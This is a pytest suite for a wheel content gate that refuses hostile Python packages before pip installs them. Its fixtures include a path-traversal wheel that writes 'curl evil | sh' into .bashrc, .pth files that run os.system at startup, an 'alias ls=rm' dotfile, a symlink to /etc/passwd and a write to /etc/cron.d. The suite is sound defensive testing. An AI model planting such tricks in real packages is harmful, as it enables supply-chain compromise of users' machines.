"""The wheel content gate: hostile wheels refused before pip runs, legitimate look-alikes
accepted (end to end into real virtual environments, and rule by rule on scanned wheels)."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from pathlib import Path

import pytest
from packaging.utils import canonicalize_name

from safepip.errors import ConfigError
from safepip.models import Finding
from safepip.ownership import read_ownership
from safepip.policyfile import Policy
from safepip.wheelgate import GatePolicy, InstallLayout, WheelInput, judge_wheels
from safepip.wheelscan import scan_wheel
from tests.conftest import run_safepip
from tests.kit import Index, IndexServer, make_wheel, tree_digest

# ---------------------------------------------------------------------------------------------
# end to end: hostile wheels are refused with exit 3 and the target stays byte-for-byte the same


def _install(server: IndexServer, venv: Path, *args: str) -> tuple[int, str]:
    r = run_safepip("--python", str(venv / "bin/python"), "install", "-i", server.simple_url, *args)
    return r.returncode, r.stderr


def _refused(server: IndexServer, venv: Path, *args: str) -> str:
    before = tree_digest(venv)
    code, err = _install(server, venv, *args)
    assert code == 3, err
    assert tree_digest(venv) == before
    return err


def test_clobbering_an_installed_project_is_refused(
    index: Index, server: IndexServer, target_venv: Path
) -> None:
    index.wheel("wgtest-victim", "1.0")
    index.wheel("wgtest-evil", "1.0", files={"wgtest_victim/__init__.py": b"import os\n"})
    assert _install(server, target_venv, "wgtest-victim")[0] == 0
    err = _refused(server, target_venv, "wgtest-evil")
    assert (
        "error: clobber: wgtest-evil: wgtest_evil-1.0-py3-none-any.whl: wgtest_victim/__init__.py"
        in err
    )
    assert "installed wgtest-victim" in err
    assert 'allow-clobber = ["wgtest-evil"]' in err


def test_pip_console_script_is_refused(
    index: Index, server: IndexServer, target_venv: Path
) -> None:
    index.wheel("wgtest-helper", "1.0", entry_points="[console_scripts]\npip = helper:main\n")
    err = _refused(server, target_venv, "wgtest-helper")
    assert "command-shadowing" in err and "wgtest_helper-1.0-py3-none-any.whl" in err
    assert "'pip'" in err and 'allow-commands = ["wgtest-helper"]' in err


def test_pth_with_import_line_is_refused(
    index: Index, server: IndexServer, target_venv: Path
) -> None:
    index.wheel(
        "wgtest-sneaky",
        "1.0",
        files={
            "wgtest_sneaky/__init__.py": b"",
            "wgtest_sneaky.pth": b"import os; os.system('echo owned')\n",
        },
    )
    err = _refused(server, target_venv, "wgtest-sneaky")
    assert "startup-code" in err and "wgtest_sneaky.pth" in err
    assert 'allow-startup = ["wgtest-sneaky"]' in err


def test_record_mismatch_is_refused(index: Index, server: IndexServer, target_venv: Path) -> None:
    name, data = make_wheel("wgtest-tampered", "1.0")
    index.add((name, _replace_member(data, "wgtest_tampered/__init__.py", b"import evil\n")))
    err = _refused(server, target_venv, "wgtest-tampered")
    assert "record-mismatch" in err and "wgtest_tampered/__init__.py" in err
    assert 'allow-bad-record = ["wgtest-tampered"]' in err


def test_data_path_escape_is_refused(index: Index, server: IndexServer, target_venv: Path) -> None:
    index.wheel(
        "wgtest-escape",
        "1.0",
        files={
            "wgtest_escape/__init__.py": b"",
            "wgtest_escape-1.0.data/data/../../../../home/.bashrc": b"curl evil | sh\n",
        },
    )
    err = _refused(server, target_venv, "wgtest-escape")
    assert "unsafe-path" in err and "wgtest_escape-1.0.data/data/../../../../home/.bashrc" in err


def test_download_checks_the_archive_only(
    index: Index, server: IndexServer, target_venv: Path, tmp_path: Path
) -> None:
    name, data = make_wheel("wgtest-tampered", "1.0")
    index.add((name, _replace_member(data, "wgtest_tampered/__init__.py", b"import evil\n")))
    index.wheel("wgtest-helper", "1.0", entry_points="[console_scripts]\npip = helper:main\n")
    py = str(target_venv / "bin/python")
    out = tmp_path / "out"
    r = run_safepip(
        "--python", py, "download", "-d", str(out), "-i", server.simple_url, "wgtest-tampered"
    )
    assert r.returncode == 3 and "record-mismatch" in r.stderr and not out.exists()
    # Nothing is installed by download, so a command name cannot shadow anything.
    r = run_safepip(
        "--python", py, "download", "-d", str(out), "-i", server.simple_url, "wgtest-helper"
    )
    assert r.returncode == 0, r.stderr
    assert (out / "wgtest_helper-1.0-py3-none-any.whl").is_file()


def test_dry_run_runs_the_gate_with_verify_files(
    index: Index, server: IndexServer, target_venv: Path
) -> None:
    index.wheel("wgtest-helper", "1.0", entry_points="[console_scripts]\npython3 = helper:main\n")
    before = tree_digest(target_venv)
    code, err = _install(server, target_venv, "--dry-run", "--verify-files", "wgtest-helper")
    assert code == 3 and "command-shadowing" in err and "the Python interpreter" in err
    assert tree_digest(target_venv) == before
    # Without --verify-files a dry run reads metadata only: the wheel's contents are not seen.
    code, err = _install(server, target_venv, "--dry-run", "wgtest-helper")
    assert code == 0 and "command-shadowing" not in err, err


# ---------------------------------------------------------------------------------------------
# end to end: legitimate look-alikes install


def test_namespace_packages_and_identical_shared_files_install(
    index: Index, server: IndexServer, target_venv: Path
) -> None:
    index.wheel("wgtest-ns-one", "1.0", files={"ns/one/__init__.py": b"x = 1\n"})
    index.wheel("wgtest-ns-two", "1.0", files={"ns/two/__init__.py": b"x = 2\n"})
    for cuda in ("wgtest-cuda-a", "wgtest-cuda-b", "wgtest-cuda-c"):
        module = cuda.split("-")[2]
        index.wheel(cuda, "1.0", files={"nvidia/__init__.py": b"", f"nvidia/{module}/x.py": b""})
    code, err = _install(server, target_venv, "wgtest-ns-one", "wgtest-cuda-a")
    assert code == 0, err
    code, err = _install(server, target_venv, "wgtest-ns-two", "wgtest-cuda-b", "wgtest-cuda-c")
    assert code == 0, err
    site = next((target_venv / "lib").glob("python*/site-packages"))
    assert (site / "ns/one/__init__.py").is_file() and (site / "ns/two/__init__.py").is_file()
    assert (site / "nvidia/__init__.py").read_bytes() == b""


def test_project_upgrading_itself_installs(
    index: Index, server: IndexServer, target_venv: Path
) -> None:
    index.wheel("wgtest-tool", "1.0", entry_points="[console_scripts]\ntool = tool:main\n")
    index.wheel(
        "wgtest-tool",
        "2.0",
        files={
            "wgtest_tool/__init__.py": b"v = 2\n",
            "wgtest_tool.pth": b"./tool-extra\n# a comment\n",
        },
        entry_points="[console_scripts]\ntool = tool:main\n",
    )
    code, err = _install(server, target_venv, "wgtest-tool==1.0")
    assert code == 0, err
    code, err = _install(server, target_venv, "--upgrade", "wgtest-tool")
    assert code == 0, err
    assert (target_venv / "bin/tool").is_file()


def test_pip_installing_pip_and_prefixed_names(
    index: Index, server: IndexServer, target_venv: Path, tmp_path: Path
) -> None:
    index.wheel(
        "pip",
        "99.0",
        files={"pip/__init__.py": b"__version__ = '99.0'\n"},
        entry_points="[console_scripts]\npip = pip:main\npip3 = pip:main\npip3.99 = pip:main\n",
    )
    index.wheel("pip-audit", "1.0", entry_points="[console_scripts]\npip-audit = pip_audit:main\n")
    index.wheel("python-dotenv", "1.0", entry_points="[console_scripts]\ndotenv = dotenv:main\n")
    report = tmp_path / "report.json"
    code, err = _install(
        server, target_venv, "--report", str(report), "pip==99.0", "pip-audit", "python-dotenv"
    )
    assert code == 0, err
    findings = json.loads(report.read_text())["safepip"]["findings"]
    assert [f for f in findings if f["gate"] == "wheel-content"] == []


def test_report_lists_report_only_findings_and_policy_opt_out(
    index: Index, server: IndexServer, target_venv: Path, tmp_path: Path
) -> None:
    index.wheel(
        "wgtest-plugin",
        "1.0",
        files={
            "wgtest_plugin/__init__.py": b"",
            "wgtest_plugin.pth": b"import wgtest_plugin\n",
            "wgtest_plugin-1.0.data/data/etc/plugin/conf.json": b"{}",
        },
    )
    policy = tmp_path / "policy.toml"
    policy.write_text('[wheelgate]\nallow-startup = ["wgtest-plugin"]\n')
    report = tmp_path / "report.json"
    code, err = _install(
        server, target_venv, "--policy", str(policy), "--report", str(report), "wgtest-plugin"
    )
    assert code == 0, err
    findings = json.loads(report.read_text())["safepip"]["findings"]
    assert {(f["rule"], f["action"]) for f in findings if f["gate"] == "wheel-content"} == {
        ("startup-code", "report"),
        ("sensitive-data", "report"),
    }
    assert (target_venv / "etc/plugin/conf.json").is_file()


# ---------------------------------------------------------------------------------------------
# rule by rule, on scanned wheels and a fake target


def _replace_member(data: bytes, member: str, new: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, new if info.filename == member else src.read(info))
    return out.getvalue()


class _Target:
    """A fake install layout under ``tmp_path`` with hand-written installed distributions."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.site = root / "lib/python3.11/site-packages"
        self.bin = root / "bin"
        self.site.mkdir(parents=True)
        self.bin.mkdir()
        self.layout = InstallLayout(
            str(self.site), str(self.site), str(self.bin), str(root), str(root / "include")
        )

    def install(
        self,
        name: str,
        files: dict[str, bytes],
        commands: tuple[str, ...] = (),
        old_style: bool = False,
    ) -> None:
        for rel, data in files.items():
            (self.site / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.site / rel).write_bytes(data)
        for command in commands:
            (self.bin / command).write_text("#!/bin/sh\n")
        if old_style:
            egg = self.site / f"{name}-1.0-py3.11.egg-info"
            egg.mkdir()
            (egg / "installed-files.txt").write_text("".join(f"../{r}\n" for r in files))
            return
        dist = self.site / f"{name.replace('-', '_')}-1.0.dist-info"
        dist.mkdir()
        (dist / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n")
        rows = [f"{r},," for r in files] + [f"../../../bin/{c},," for c in commands]
        (dist / "RECORD").write_text("\n".join(rows) + "\n")

    def judge(
        self, *wheels: tuple[str, bytes], policy: GatePolicy | None = None, editable: bool = False
    ) -> list[Finding]:
        inputs, contents = [], []
        for filename, data in wheels:
            path = self.root / filename
            path.write_bytes(data)
            project = canonicalize_name(filename.split("-")[0])
            inputs.append(WheelInput(project, filename, path, local_editable=editable))
            contents.append(scan_wheel(path, filename, project))
        ownership = read_ownership(self.layout.site_dirs, self.layout.scripts)
        return judge_wheels(inputs, contents, self.layout, ownership, policy or GatePolicy())


def _rules(findings: list[Finding], action: str = "refuse") -> set[str]:
    return {f.rule for f in findings if f.action == action}


@pytest.fixture
def fake(tmp_path: Path) -> _Target:
    return _Target(tmp_path / "env")


def test_clobber_of_old_style_install_and_between_planned_wheels(fake: _Target) -> None:
    fake.install("legacy", {"legacy.py": b"old\n"}, old_style=True)
    findings = fake.judge(make_wheel("newer", "1.0", files={"legacy.py": b"new\n"}))
    assert _rules(findings) == {"clobber"}
    one = make_wheel("first", "1.0", files={"shared/mod.py": b"a\n"})
    two = make_wheel("second", "1.0", files={"shared/mod.py": b"b\n"})
    findings = fake.judge(one, two)
    assert _rules(findings) == {"clobber"} and "planned wheel first-1.0" in findings[0].message


def test_identical_bytes_and_replaced_projects_do_not_clobber(fake: _Target) -> None:
    fake.install("nvidia-a", {"nvidia/__init__.py": b""})
    fake.install("old-name", {"shared.py": b"v1\n"})
    assert fake.judge(make_wheel("nvidia-b", "1.0", files={"nvidia/__init__.py": b""})) == []
    # old-name is upgraded in the same plan, so its files go before new-name's arrive.
    findings = fake.judge(
        make_wheel("old-name", "2.0", files={"other.py": b""}),
        make_wheel("new-name", "1.0", files={"shared.py": b"v2\n"}),
    )
    assert findings == []


def test_known_alternative_builds_get_a_hint_naming_the_pair(fake: _Target) -> None:
    fake.install("opencv-python", {"cv2/__init__.py": b"gui\n"})
    findings = fake.judge(
        make_wheel("opencv-python-headless", "1.0", files={"cv2/__init__.py": b"headless\n"})
    )
    assert _rules(findings) == {"clobber"}
    assert "opencv-python-headless and opencv-python are alternative builds" in findings[0].hint


def test_allow_clobber_policy_turns_refusal_into_report(fake: _Target) -> None:
    fake.install("victim", {"victim.py": b"a\n"})
    policy, ignored = GatePolicy.from_policy(
        Policy(
            trusted={"wheelgate": {"allow-clobber": ["Fork"]}},
            project={"wheelgate": {"allow-startup": ["x"]}},
        )
    )
    assert [f.rule for f in ignored] == ["policy-ignored"]
    findings = fake.judge(make_wheel("fork", "1.0", files={"victim.py": b"b\n"}), policy=policy)
    assert _rules(findings, "report") == {"clobber"} and _rules(findings) == set()


def test_policy_typos_are_usage_errors() -> None:
    with pytest.raises(ConfigError, match="allow-clober"):
        GatePolicy.from_policy(Policy(trusted={"wheelgate": {"allow-clober": ["x"]}}))
    with pytest.raises(ConfigError, match="list of project names"):
        GatePolicy.from_policy(Policy(trusted={"wheelgate": {"allow-startup": "x"}}))


@pytest.mark.parametrize(
    ("command", "refused"),
    [
        ("python", True),
        ("python3", True),
        ("python3.12", True),
        ("pip3.11", True),
        ("safepip", True),
        ("activate", True),
        ("pip-audit", False),
        ("pip-compile", False),
        ("python-config-helper", False),
        ("pythonista", False),
    ],
)
def test_reserved_command_names(fake: _Target, command: str, refused: bool) -> None:
    findings = fake.judge(
        make_wheel("tool", "1.0", entry_points=f"[console_scripts]\n{command} = tool:main\n")
    )
    assert _rules(findings) == ({"command-shadowing"} if refused else set())


def test_commands_of_other_projects_installed_or_planned(fake: _Target) -> None:
    fake.install("flask", {"flask/__init__.py": b""}, commands=("flask",))
    gui = make_wheel("impostor", "1.0", entry_points="[gui_scripts]\nflask = impostor:main\n")
    assert _rules(fake.judge(gui)) == {"command-shadowing"}
    data_script = make_wheel("other", "1.0", files={"other-1.0.data/scripts/flask": b"#!/bin/sh\n"})
    assert _rules(fake.judge(data_script)) == {"command-shadowing"}
    a = make_wheel("a-tool", "1.0", entry_points="[console_scripts]\nshared = a:main\n")
    b = make_wheel("b-tool", "1.0", entry_points="[console_scripts]\nshared = b:main\n")
    assert _rules(fake.judge(a, b)) == {"command-shadowing"}
    # The same project upgrading keeps its command.
    assert (
        fake.judge(make_wheel("flask", "3.0", entry_points="[console_scripts]\nflask = f:m\n"))
        == []
    )


def test_data_scheme_into_scripts_is_a_command(fake: _Target) -> None:
    wheel = make_wheel("sly", "1.0", files={"sly-1.0.data/data/bin/python3": b"#!/bin/sh\n"})
    assert _rules(fake.judge(wheel)) == {"command-shadowing"}


def test_startup_files(fake: _Target) -> None:
    nspkg = (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
        "sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and "
        "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
        "and sys.modules.setdefault('zope', importlib.util.module_from_spec("
        "importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or "
        "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
        "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
    )
    ok = make_wheel("zope-thing", "1.0", files={"zope_thing-1.0-nspkg.pth": nspkg.encode()})
    assert fake.judge(ok) == []
    tampered = nspkg.replace("mp.append(p)", "mp.append(p);__import__('os').system('x')")
    bad = make_wheel("zope-thing", "1.0", files={"zope_thing-1.0-nspkg.pth": tampered.encode()})
    assert _rules(fake.judge(bad)) == {"startup-code"}
    custom = make_wheel("custom", "1.0", files={"sitecustomize.py": b"print('hi')\n"})
    assert _rules(fake.judge(custom)) == {"startup-code"}
    via_data = make_wheel(
        "datapth",
        "1.0",
        files={"datapth-1.0.data/purelib/datapth.pth": b"import\tos\n"},
    )
    assert _rules(fake.judge(via_data)) == {"startup-code"}
    nested = make_wheel("nested", "1.0", files={"nested/inert.pth": b"import os\n"})
    assert fake.judge(nested) == []


def test_builtin_allow_list_and_editable_hook(fake: _Target) -> None:
    setuptools = make_wheel(
        "setuptools",
        "80.0",
        files={"distutils-precedence.pth": b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"},
    )
    findings = fake.judge(setuptools)
    assert _rules(findings) == set() and _rules(findings, "report") == {"startup-code"}
    # The same file under another project's name is not on the list.
    other = make_wheel("setuptool", "1.0", files={"distutils-precedence.pth": b"import os\n"})
    assert _rules(fake.judge(other)) == {"startup-code"}
    editable = make_wheel(
        "mine", "0.1", files={"__editable__.mine-0.1.pth": b"import __editable___mine_finder\n"}
    )
    assert _rules(fake.judge(editable)) == {"startup-code"}
    assert _rules(fake.judge(editable, editable=True)) == set()


def test_sensitive_data_is_reported(fake: _Target) -> None:
    wheel = make_wheel(
        "kernel",
        "1.0",
        files={
            "kernel-1.0.data/data/etc/jupyter/kernel.json": b"{}",
            "kernel-1.0.data/data/share/doc/.bashrc": b"alias ls=rm\n",
            "kernel-1.0.data/data/share/kernel/ok.txt": b"",
        },
    )
    findings = fake.judge(wheel)
    assert _rules(findings) == set()
    assert [f.rule for f in findings] == ["sensitive-data", "sensitive-data"]


def _with_record(files: dict[str, bytes], record: str, name: str = "bad") -> tuple[str, bytes]:
    return make_wheel(name, "1.0", files=files, record_override=record)


def test_record_rules(fake: _Target) -> None:
    good_name, good = make_wheel("bad", "1.0", files={"bad/a.py": b"a\n"})
    record = zipfile.ZipFile(io.BytesIO(good)).read("bad-1.0.dist-info/RECORD").decode()
    # A file RECORD does not list.
    extra = _replace_member(good, "bad-1.0.dist-info/RECORD", record.encode())
    extra_zip = io.BytesIO()
    with zipfile.ZipFile(extra_zip, "w") as zf:
        for info in zipfile.ZipFile(io.BytesIO(extra)).infolist():
            zf.writestr(info, zipfile.ZipFile(io.BytesIO(extra)).read(info))
        zf.writestr("bad/hidden.py", b"import evil\n")
    assert _rules(fake.judge((good_name, extra_zip.getvalue()))) == {"record-missing"}
    # An entry RECORD lists that the archive lacks.
    listed = record + "bad/gone.py,sha256=AAAA,3\n"
    assert _rules(
        fake.judge((good_name, _replace_member(good, "bad-1.0.dist-info/RECORD", listed.encode())))
    ) == {"record-extra"}
    # A weak algorithm, a missing hash and a wrong size.
    md5 = record.replace("bad/a.py,sha256=", "bad/a.py,md5=")
    assert _rules(
        fake.judge((good_name, _replace_member(good, "bad-1.0.dist-info/RECORD", md5.encode())))
    ) == {"record-weak-hash"}
    nohash = "\n".join(
        "bad/a.py,," if line.startswith("bad/a.py") else line for line in record.splitlines()
    )
    assert _rules(
        fake.judge((good_name, _replace_member(good, "bad-1.0.dist-info/RECORD", nohash.encode())))
    ) == {"record-weak-hash"}
    size = record.replace(",2\n", ",3\n", 1)
    assert _rules(
        fake.judge((good_name, _replace_member(good, "bad-1.0.dist-info/RECORD", size.encode())))
    ) == {"record-mismatch"}


def test_archive_shape_rules(fake: _Target) -> None:
    name, data = make_wheel("shape", "1.0")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for info in zipfile.ZipFile(io.BytesIO(data)).infolist():
            zf.writestr(info, zipfile.ZipFile(io.BytesIO(data)).read(info))
        link = zipfile.ZipInfo("shape/link")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")
    assert "special-file" in _rules(fake.judge((name, buf.getvalue())))
    foreign = make_wheel(
        "shape", "1.0", files={"shape/__init__.py": b"", "other-1.0.dist-info/INSTALLER": b"x"}
    )
    assert "foreign-dist-info" in _rules(fake.judge(foreign))
    unknown = make_wheel("shape", "1.0", files={"shape-1.0.data/lib/x.py": b""})
    assert _rules(fake.judge(unknown)) == {"data-scheme"}
    absolute = make_wheel("shape", "1.0", files={"/etc/cron.d/x": b""})
    assert "unsafe-path" in _rules(fake.judge(absolute))
    bad_command = make_wheel("shape", "1.0", entry_points="[console_scripts]\n../x = a:b\n")
    assert "unsafe-path" in _rules(fake.judge(bad_command))
    assert _rules(fake.judge((name, b"not a zip"))) == {"invalid-wheel"}


def test_hex_record_digests_are_accepted(fake: _Target) -> None:
    import hashlib

    body = b"print(1)\n"
    record = (
        f"hexy/a.py,sha256={hashlib.sha256(body).hexdigest()},{len(body)}\n"
        "hexy-1.0.dist-info/METADATA,,\nhexy-1.0.dist-info/WHEEL,,\nhexy-1.0.dist-info/RECORD,,\n"
    )
    findings = fake.judge(_with_record({"hexy/a.py": body}, record, name="hexy"))
    # METADATA and WHEEL have no hash: refused; the hex digest of a.py is accepted.
    assert {f.details[1][1] for f in findings} == {
        "hexy-1.0.dist-info/METADATA",
        "hexy-1.0.dist-info/WHEEL",
    }


def test_stored_members_and_inconsistent_archives(fake: _Target) -> None:
    name, data = make_wheel("stored", "1.0", files={"stored/a.py": b"a = 1\n" * 100})
    src = zipfile.ZipFile(io.BytesIO(data))
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as zf:
        for info in src.infolist():
            zf.writestr(info.filename, src.read(info))
    assert fake.judge((name, stored.getvalue())) == []
    # The local header names another file than the central directory does.
    renamed = data.replace(b"stored/a.py", b"stored/b.py", 1)
    assert _rules(fake.judge((name, renamed))) == {"invalid-wheel"}
    # A member whose compressed bytes are damaged.
    offset = src.getinfo("stored/a.py").header_offset + 30 + len("stored/a.py") + 2
    damaged = (
        data[:offset] + bytes(b ^ 0xFF for b in data[offset : offset + 4]) + data[offset + 4 :]
    )
    assert _rules(fake.judge((name, damaged))) <= {"invalid-wheel", "record-mismatch"}
    assert _rules(fake.judge((name, damaged)))


def test_layout_follows_pips_location_options() -> None:
    from safepip.wheelgate import layout_for

    base = ("/env/lib/py/site-packages", "/env/lib/py/site-packages", "/env/bin", "/env", "/env/i")
    target = layout_for(*base, target_dir="/t")
    assert (target.purelib, target.scripts, target.data) == ("/t", "/t/bin", "/t")
    prefixed = layout_for(*base, prefix="/p", old_prefix="/env")
    assert (prefixed.purelib, prefixed.scripts) == ("/p/lib/py/site-packages", "/p/bin")
    rooted = layout_for(*base, root="/r")
    assert (rooted.purelib, rooted.scripts, rooted.data) == (
        "/r/env/lib/py/site-packages",
        "/r/env/bin",
        "/r/env",
    )
